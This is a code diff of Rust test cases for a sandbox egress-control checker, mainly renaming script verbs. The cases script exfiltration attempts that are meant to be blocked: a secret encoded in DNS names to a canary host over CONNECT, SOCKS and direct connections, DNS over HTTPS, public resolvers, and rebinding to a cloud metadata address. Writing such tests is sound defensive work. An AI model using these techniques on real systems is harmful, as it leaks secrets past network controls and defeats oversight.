@@ -9,8 +9,8 @@ use super::super::policies::PolicyPreset::{Denying, Listing, Open, Strict};
 use crate::report::AttackVerdict;
 
 const SECRET: &str = "mfzwk43u-nfzsa5dimu";
-const DATAGRAM: &[&str] = &["udp:{udp}", "say:hello", "hear"];
-const STREAM: &[&str] = &["tcp:{plain}", "say:hello", "hear"];
+const DATAGRAM: &[&str] = &["udp:{udp}", "send:hello", "receive"];
+const STREAM: &[&str] = &["tcp:{plain}", "send:hello", "receive"];
 const LOOKUP: &[&str] = &["lookup:mfzwk43u.canary.test"];
 const OWN_UDP: &[&str] = &["udp:8.8.8.8:53", "ask:1:allowed.test"];
 const OWN_TCP: &[&str] = &["tcp:8.8.8.8:53", "ask:1:allowed.test"];
@@ -35,35 +35,35 @@ pub(super) const CASES: &[EgressCase] = &[
     EgressCase::blocked(
         "DN-02.connect",
         "a secret in a name, by `CONNECT`",
-        &["connect:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "say:hello", "hear"],
+        &["connect:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "send:hello", "receive"],
         "HTTP/1.1 403",
         Same(Open),
     ),
     EgressCase::blocked(
         "DN-02.absolute",
         "a secret in a name, in an absolute URL",
-        &["door", r"say:GET http://mfzwk43u.canary.test/ HTTP/1.1\r\nHost: mfzwk43u.canary.test\r\n\r\n", "hear"],
+        &["proxy", r"send:GET http://mfzwk43u.canary.test/ HTTP/1.1\r\nHost: mfzwk43u.canary.test\r\n\r\n", "receive"],
         "HTTP/1.1 403",
         Same(Open),
     ),
     EgressCase::blocked(
         "DN-02.socks",
         "a secret in a name, by SOCKS",
-        &["socks:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "say:hello", "hear"],
+        &["socks:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "send:hello", "receive"],
         "socks 2",
         Same(Open),
     ),
     EgressCase::blocked(
         "DN-02.named",
         "a secret in a name, by a direct connection",
-        &["name:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "say:hello", "hear"],
+        &["name:mfzwk43u.canary.test:443", "tls:mfzwk43u.canary.test", "send:hello", "receive"],
         "failed at name",
         Same(Open),
     ),
     EgressCase::blocked(
         "DN-02.port",
         "a secret as a subdomain of an allowed name",
-        &["connect:mfzwk43u.allowed.test:443", "tls:mfzwk43u.allowed.test", "say:hello", "hear"],
+        &["connect:mfzwk43u.allowed.test:443", "tls:mfzwk43u.allowed.test", "send:hello", "receive"],
         "HTTP/1.1 403",
         Same(Open),
     ),
@@ -84,7 +84,7 @@ pub(super) const CASES: &[EgressCase] = &[
     EgressCase::blocked(
         "DN-03.tls-door",
         "a public name server over TLS",
-        &["tcp:1.1.1.1:853", "hear"],
+        &["tcp:1.1.1.1:853", "receive"],
         "failed at tcp",
         Host(STREAM),
     ),
@@ -93,26 +93,26 @@ pub(super) const CASES: &[EgressCase] = &[
         "a public name server by SOCKS",
         &["socksip:8.8.8.8:53", "ask:1:x.canary.test"],
         "socks 2",
-        Other(Open, &["socksip:8.8.8.8:53", "say:hello", "hear"]),
+        Other(Open, &["socksip:8.8.8.8:53", "send:hello", "receive"]),
     ),
     EgressCase::blocked(
         "DN-03.connect",
         "a public name server by `CONNECT`",
         &["connect:dns.google:53", "ask:1:x.canary.test"],
         "HTTP/1.1 403",
-        Other(Open, &["connect:dns.google:53", "say:hello", "hear"]),
+        Other(Open, &["connect:dns.google:53", "send:hello", "receive"]),
     ),
     EgressCase::blocked(
         "DN-04.connect",
         "DNS over HTTPS",
-        &["connect:cloudflare-dns.com:443", "tls:cloudflare-dns.com", "say:hello", "hear"],
+        &["connect:cloudflare-dns.com:443", "tls:cloudflare-dns.com", "send:hello", "receive"],
         "HTTP/1.1 403",
         Same(Open),
     ),
     EgressCase::blocked(
         "DN-04.socks",
         "DNS over HTTPS by its address",
-        &["socksip:1.1.1.1:443", "tls:-", "say:hello", "hear"],
+        &["socksip:1.1.1.1:443", "tls:-", "send:hello", "receive"],
         "socks 2",
         Same(Open),
     ),
@@ -166,7 +166,7 @@ async fn lookup_stays_inside(arena: &EgressArena) -> Result<AttackVerdict, Attac
     let name = format!("{SECRET}.wild.test");
     let (reply, happened) = arena.run_attack(&cage, &[format!("lookup:{name}")]).await?;
     require_control(&reply, reply.contains("address 198.18."))?;
-    let words = [format!("connect:{name}:443"), format!("tls:{name}"), "say:hello".to_owned(), "hear".to_owned()];
+    let words = [format!("connect:{name}:443"), format!("tls:{name}"), "send:hello".to_owned(), "receive".to_owned()];
     let (reply, reached) = arena.run_attack(&cage, &words).await?;
     require_control(&reply, reached.queries == [name])?;
     case_verdict(!happened.is_empty(), happened.summary())
@@ -177,7 +177,7 @@ async fn wildcard_is_audited(arena: &EgressArena) -> Result<AttackVerdict, Attac
     let cage = arena.new_audited_cage(Strict).await?;
     let name = format!("{SECRET}.wild.test");
     let before = audited_hosts(arena)?.iter().filter(|host| **host == name).count();
-    let words = [format!("name:{name}:443"), format!("tls:{name}"), "say:hello".to_owned(), "hear".to_owned()];
+    let words = [format!("name:{name}:443"), format!("tls:{name}"), "send:hello".to_owned(), "receive".to_owned()];
     let (reply, happened) = arena.run_attack(&cage, &words).await?;
     let _ = cage.sandbox.destroy().await;
     require_control(&reply, happened.queries.contains(&name))?;
@@ -198,8 +198,8 @@ fn audited_hosts(arena: &EgressArena) -> Result<Vec<String>, AttackVerdict> {
 
 fn access_scripts(host: &str) -> [Vec<String>; 3] {
     ["connect", "socks", "name"].map(|way| {
-        let get = format!(r"say:GET / HTTP/1.1\r\nHost: {host}\r\n\r\n");
-        vec![format!("{way}:{host}:443"), format!("tls:{host}"), get, "hear".to_owned()]
+        let get = format!(r"send:GET / HTTP/1.1\r\nHost: {host}\r\n\r\n");
+        vec![format!("{way}:{host}:443"), format!("tls:{host}"), get, "receive".to_owned()]
     })
 }
 
@@ -246,9 +246,15 @@ async fn rebind_between_requests(arena: &EgressArena) -> Result<AttackVerdict, A
     let cage = arena.shared_cage(Strict).await?;
     let host = "rebind-api.test";
     arena.network.set_dns_answers(host, &[&["93.184.215.14"], &["169.254.169.254"]]);
-    let get = |path: &str| format!(r"say:GET /{path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
-    let words =
-        [format!("connect:{host}:443"), format!("tls:{host}"), get("one"), "hear".into(), get("two"), "hear".into()];
+    let get = |path: &str| format!(r"send:GET /{path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
+    let words = [
+        format!("connect:{host}:443"),
+        format!("tls:{host}"),
+        get("one"),
+        "receive".into(),
+        get("two"),
+        "receive".into(),
+    ];
     let (reply, happened) = arena.run_attack(&cage, &words).await?;
     require_control(&reply, happened.received("GET /one"))?;
     case_verdict(happened.dials.len() != 1, happened.summary())
@@ -262,7 +268,8 @@ fn address(reply: &str) -> String {
 async fn stale(arena: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
     let cage = arena.new_cage(Strict, ample_ledger()).await?;
     let old = address(&arena.run_client(&cage, &["lookup:allowed.test"]).await?);
-    let words = [format!("tcp:{old}:443"), "tls:allowed.test".to_owned(), "say:hello".to_owned(), "hear".to_owned()];
+    let words =
+        [format!("tcp:{old}:443"), "tls:allowed.test".to_owned(), "send:hello".to_owned(), "receive".to_owned()];
     let (reply, reached) = arena.run_attack(&cage, &words).await?;
     require_control(&reply, !reached.messages.is_empty())?;
     cage.with_egress(|pass| Listing("other.test").policy().map(|policy| pass.set_policy(policy)));
@@ -280,9 +287,10 @@ async fn stale(arena: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
 /// Checks that a connection in use is closed when the policy stops allowing it.
 async fn cut(arena: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
     let cage = arena.new_cage(Strict, ample_ledger()).await?;
-    let get = |path: &str| format!(r"say:GET /{path} HTTP/1.1\r\nHost: allowed.test\r\n\r\n");
-    let first = ["connect:allowed.test:443".to_owned(), "tls:allowed.test".to_owned(), get("one"), "hear".to_owned()];
-    let then = [get("two"), "hear".to_owned()];
+    let get = |path: &str| format!(r"send:GET /{path} HTTP/1.1\r\nHost: allowed.test\r\n\r\n");
+    let first =
+        ["connect:allowed.test:443".to_owned(), "tls:allowed.test".to_owned(), get("one"), "receive".to_owned()];
+    let then = [get("two"), "receive".to_owned()];
     let (kept, before) = arena.run_interrupted(&cage, &first, &then, async || ()).await?;
     let change = async || {
         cage.with_egress(|pass| Listing("other.test").policy().map(|policy| pass.set_policy(policy)));
